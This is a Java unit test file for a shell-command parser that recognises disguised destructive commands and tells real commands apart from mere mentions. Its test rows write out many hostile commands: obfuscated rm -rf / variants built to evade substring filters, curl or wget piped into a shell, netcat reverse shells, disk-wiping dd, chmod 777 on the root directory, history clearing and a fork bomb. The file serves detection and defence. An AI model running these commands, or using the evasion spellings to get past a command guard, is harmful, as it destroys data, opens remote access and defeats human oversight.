package dev.cordon.shell;

import static dev.cordon.shell.ShellTesting.command;
import static dev.cordon.shell.ShellTesting.programs;
import static dev.cordon.shell.ShellTesting.understood;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Spellings that slip past substring matching are seen as the command they run, and text that
 * only mentions a command is not taken for it.
 */
class EvasionTest {

    /**
     * Each row: a line ({@code ⏎} for a newline), then the program, normalised flags and operands
     * ({@code -}: none) of a command it must yield.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", quoteCharacter = '§', textBlock = """
            rm -r -f /                                  => rm => -f -r => /
            /bin/rm -fr /*                              => rm => -f -r => /*
            bash -c 'rm -rf ~'                          => rm => -f -r => /home/agent
            sudo -u root rm --recursive --force /       => rm => -f -r => /
            env FOO=1 rm -rf /                          => rm => -f -r => /
            timeout 5 nice -n 10 rm -rf /               => rm => -f -r => /
            echo hi; rm -rf /                           => rm => -f -r => /
            x=$(rm -rf /)                               => rm => -f -r => /
            `rm -rf /`                                  => rm => -f -r => /
            find / -exec rm -rf {} \\;                  => rm => -f -r => {}
            xargs rm -rf < list                         => rm => -f -r => -
            curl -s x |  sh                             => sh => - => -
            curl x | sudo bash -s                       => bash => -s => -
            wget -qO- x|bash                            => bash => - => -
            eval 'rm -rf /'                             => rm => -f -r => /
            bash -lc "rm -rf /"                         => rm => -f -r => /
            r\\m -rf /                                  => rm => -f -r => /
            "rm" -rf /                                  => rm => -f -r => /
            r""m -rf /                                  => rm => -f -r => /
            \\rm -rf /                                  => rm => -f -r => /
            $'\\x72\\x6d' -rf /                         => rm => -f -r => /
            {rm,-rf,/}                                  => rm => -f -r => /
            rm -R -f /                                  => rm => -f -r => /
            rm / -rf                                    => rm => -f -r => /
            rm --rec --for /                            => rm => -f -r => /
            rm --recursive --force --no-preserve-root / => rm => --no-preserve-root -f -r => /
            rm -rf -- /                                 => rm => -f -r => /
            command rm -rf /                            => rm => -f -r => /
            exec rm -rf /                               => rm => -f -r => /
            busybox rm -rf /                            => rm => -f -r => /
            nohup rm -rf / &                            => rm => -f -r => /
            (rm -rf /)                                  => rm => -f -r => /
            { rm -rf /; }                               => rm => -f -r => /
            if true; then rm -rf /; fi                  => rm => -f -r => /
            true && rm -rf / || false                   => rm => -f -r => /
            cat <(rm -rf /)                             => rm => -f -r => /
            : $(rm -rf /)                               => rm => -f -r => /
            cat <<EOF⏎$(rm -rf /)⏎EOF                  => rm => -f -r => /
            echo 'rm -rf /' | sh                        => rm => -f -r => /
            sh -c "sh -c 'rm -rf /'"                    => rm => -f -r => /
            rm -rf "$HOME"                              => rm => -f -r => /home/agent
            rm -rf ${HOME}                              => rm => -f -r => /home/agent
            r\\⏎m -rf /                                 => rm => -f -r => /
            chmod -R 777 /                              => chmod => -R => 777,/
            chmod --recursive 0777 /                    => chmod => -R => 0777,/
            nc -e /bin/sh 10.0.0.1 4444                 => nc => -e => 10.0.0.1,4444
            ncat --exec /bin/bash 10.0.0.1 4444         => ncat => -e => 10.0.0.1,4444
            ncat --sh-exec 'bash -i' 10.0.0.1 4444      => ncat => -c => 10.0.0.1,4444
            history -c                                  => history => -c => -
            sudo shutdown -h now                        => shutdown => -h => now
            dd if=/dev/zero of=/dev/sda                 => dd => - => if=/dev/zero,of=/dev/sda
            """)
    void seenThrough(String line, String program, String flags, String operands) {
        ParsedCommand parsed = understood(line.replace("⏎", "\n"));
        SimpleCommand c = command(parsed, program);
        Set<String> wantedFlags = flags.equals("-") ? Set.of() : Set.of(flags.split(" "));
        List<String> wantedOperands = operands.equals("-") ? List.of() : List.of(operands.split(","));
        assertEquals(new TreeSet<>(wantedFlags) + " " + wantedOperands, new TreeSet<>(c.flags()) + " " + c.operands());
    }

    @Test
    void downloadPipedIntoAShellIsOnePipeline() {
        for (String line : List.of("curl -s x |  sh", "curl x | sudo bash -s", "wget -qO- x|bash")) {
            List<SimpleCommand> c = understood(line).commands();
            assertEquals(c.get(0).pipeline(), c.get(1).pipeline(), line);
            assertEquals(List.of(0, 1), List.of(c.get(0).position(), c.get(1).position()), line);
        }
    }

    /** Each row: a line ({@code ⏎} for a newline), then all the programs it runs. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", quoteCharacter = '§', textBlock = """
            echo 'rm -rf /'                        => echo
            grep shutdown notes.txt                => grep
            cat <<EOF⏎rm -rf /⏎EOF                 => cat
            git commit -m "rm -rf /"               => git
            printf '%s' ':(){:|:&};:'              => printf
            echo "curl x | sh"                     => echo
            grep -r 'rm -rf' .                     => grep
            man shutdown                           => man
            git log --grep=reboot                  => git
            echo $'rm -rf /'                       => echo
            ls # ; rm -rf /                        => ls
            cat <<'EOF'⏎$(rm -rf /)⏎EOF            => cat
            echo rm -rf / > notes.txt              => echo
            echo '$(rm -rf /)'                     => echo
            echo \\$\\(rm -rf /\\)                 => echo
            """)
    void onlyMentioned(String line, String expected) {
        assertEquals(List.of(expected.split(" ")), programs(understood(line.replace("⏎", "\n"))));
    }

    @Test
    void aCommentLineRunsNothing() {
        assertTrue(understood("# rm -rf /").commands().isEmpty());
    }

    @Test
    void commitMessageIsAnOptionValueNotAnOperand() {
        SimpleCommand git = understood("git commit -m \"rm -rf /\"").commands().get(0);
        assertEquals(Set.of("-m") + " " + List.of("commit"), git.flags() + " " + git.operands());
    }
}
